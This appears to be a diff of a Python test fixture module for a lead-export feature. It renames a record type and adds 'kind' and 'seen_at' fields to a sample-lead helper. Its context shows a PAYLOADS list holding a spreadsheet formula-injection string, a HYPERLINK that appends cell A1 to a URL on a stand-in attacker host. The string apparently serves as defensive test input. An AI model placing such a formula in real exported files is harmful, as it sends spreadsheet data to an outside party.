@@ -2,7 +2,8 @@
 
 from datetime import UTC, datetime
 
-from app.leads.records import ExportedLead
+from app.leads.kinds import LeadKind
+from app.leads.records import LeadRecord
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example?x="&A1,"click")',
@@ -20,16 +21,18 @@ PAYLOADS = [
 """What a spreadsheet might run, or a file might not hold."""
 
 
-def lead(number: int = 0, /, **changes: object) -> ExportedLead:
+def lead(number: int = 0, /, **changes: object) -> LeadRecord:
     """One as the store yields it for a file."""
     values: dict[str, object] = {
         "id": f"{number:024x}",
+        "kind": LeadKind.CONTACT,
         "name": f"Visitor {number}",
         "email": "asha@example.in",
         "phone": "+919876543210",
         "message": None,
         "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
+        "seen_at": None,
         "suspected": False,
         "notice_version": "2026-04",
     }
-    return ExportedLead(**(values | changes))  # type: ignore[arg-type]
+    return LeadRecord(**(values | changes))  # type: ignore[arg-type]
